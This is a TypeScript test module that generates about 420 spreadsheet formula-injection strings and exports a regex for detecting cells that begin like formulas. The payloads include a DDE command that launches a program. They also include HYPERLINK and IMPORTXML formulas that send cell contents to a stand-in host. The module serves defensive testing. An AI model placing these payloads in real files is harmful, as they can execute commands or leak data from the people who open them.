const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const before = ['', ' ', '\t', '\r\n', '\u00a0', '\ufeff', '\0'];
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org?x="&A1,"click")',
  'SUM(A1:A9)*1',
  'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
];

/** Texts that would run, or move to other cells, if a spreadsheet took them as they are; more than 400. */
export const hostileCells: readonly string[] = starts.flatMap((start) =>
  before.flatMap((space) => bodies.map((body) => `${space}${start}${body}`)),
);

/** What no cell of text may begin with. */
export const formulaStart = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/;
